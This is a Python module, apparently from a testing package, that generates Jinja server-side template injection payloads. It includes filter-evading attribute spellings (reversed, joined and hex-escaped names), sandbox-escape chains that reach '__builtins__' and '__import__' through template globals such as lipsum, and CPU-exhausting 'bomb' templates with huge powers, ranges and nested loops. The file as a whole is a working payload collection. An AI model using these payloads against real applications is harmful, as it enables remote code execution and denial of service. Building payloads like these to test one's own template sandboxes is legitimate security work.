"""Template injection, as Jinja reads it: the way to a value by how it is spelt by how it is printed."""

import random
from typing import Final

from quintain.judge.payloads.drawing import MANY, Dimension, draw

PRINTS: Final[Dimension[str]] = {
    "": "{{{{ {} }}}}",
    "no spaces": "{{{{{}}}}}",
    "trimmed": "{{{{- {} -}}}}",
    "newlines": "{{{{\n{}\n}}}}",
    "tabs": "{{{{\t{}\t}}}}",
    "plus": "{{{{+ {} }}}}",
    "set first": "{{% set q = {} %}}{{{{ q }}}}",
    "loop": "{{% for q in [{}] %}}{{{{ q }}}}{{% endfor %}}",
    "with": "{{% with q = {} %}}{{{{ q }}}}{{% endwith %}}",
    "condition": "{{% if true %}}{{{{ {} }}}}{{% endif %}}",
    "filter block": "{{% filter trim %}}{{{{ {} }}}}{{% endfilter %}}",
    "macro": "{{% macro q() %}}{{{{ {} }}}}{{% endmacro %}}{{{{ q() }}}}",
    "behind a comment": "{{# x #}}{{{{ {} }}}}",
}
ATTRIBUTES: Final[Dimension[str]] = {
    "": "{before}.{name}",
    "in brackets": "{before}['{name}']",
    "in brackets, double quotes": '{before}["{name}"]',
    "by a filter": "({before}|attr('{name}'))",
    "by a filter, joined": "({before}|attr(['{first}','{rest}']|join))",
    "in brackets, joined": "{before}['{first}'~'{rest}']",
    "in brackets, turned": "{before}['{turned}'|reverse]",
    "in brackets, escaped": "{before}['\\x{code}{rest}']",
}


def _looked_up(form: str, before: str, name: str) -> str:
    return form.format(
        before=before, name=name, first=name[0], rest=name[1:], turned=name[::-1], code=f"{ord(name[0]):02x}"
    )


def values(rng: random.Random, path: str, *, many: int | None = MANY) -> dict[str, str]:
    """Draw templates that print a value.

    Args:
        rng: see the package.
        path: a name of the template's and attributes behind it: ``practice.cabinet``.
        many: see the package.

    """
    head, *attributes = path.split(".")

    def make(form: str, printed: str) -> str:
        expression = head
        for name in attributes:
            expression = _looked_up(form, expression, name)
        return printed.format(expression)

    return draw(rng, many, make, ATTRIBUTES if attributes else {"": ""}, PRINTS)


def globals_(
    rng: random.Random, names: tuple[str, ...], module: str, path: str, *, many: int | None = MANY
) -> dict[str, str]:
    """Draw templates that go from a function to ``__builtins__``, import a module, and print a value of it.

    Args:
        rng: see the package.
        names: what the template holds and is a function, or a class with a method written in Python: ``("lipsum",)``.
        module: the module to import.
        path: attributes of the module: ``PRACTICE.cabinet``.
        many: see the package.

    """
    starts = {("" if number == 0 else f"by {name}"): name for number, name in enumerate(names)}

    def make(start: str, form: str, printed: str) -> str:
        expression = start
        if start not in {"lipsum", "range", "url_for", "get_flashed_messages"}:
            expression = _looked_up(form, expression, "__init__")
        expression = _looked_up(form, expression, "__globals__") + "['__builtins__']['__import__']"
        expression += f"('{module}')"
        for name in path.split("."):
            expression = _looked_up(form, expression, name)
        return printed.format(expression)

    return draw(rng, many, make, starts, ATTRIBUTES, PRINTS)


BOMBS: Final[Dimension[str]] = {
    "power": "9**(9**9)",
    "another power": "(7**(8**9))|string|length",
    "long range": "range(10**12)|sum",
    "long range, nothing kept": "range(10**12)|reject('number')|list",
    "long range as text": "range(10**12)|map('string')|select('number')|first",
    "long range, grouped": "range(10**12)|batch(9)|map('first')|sum",
    "long range, searched": "range(10**12)|select('equalto', 'x')|first",
}
LOOPS: Final[Dimension[str]] = {
    "": "{{{{ {bomb} }}}}",
    "set first": "{{% set q = {bomb} %}}{{{{ q }}}}",
    "in a condition": "{{% if {bomb} %}}x{{% endif %}}",
    "behind nothing": "{{{{ '' and 1 or ({bomb}) }}}}",
    "in loops": "{{% for a in range(99999) %}}{{% for b in range(99999) %}}{{% endfor %}}{{% endfor %}}",
}


def bombs(rng: random.Random, *, many: int | None = MANY) -> dict[str, str]:
    """Draw templates that keep the processor busy for minutes.

    None asks for much memory at once: Python refuses that quickly, and the program goes on.
    """

    def make(loop: str, bomb: str) -> str:
        return loop.format(bomb=bomb)

    return draw(rng, many, make, LOOPS, BOMBS)
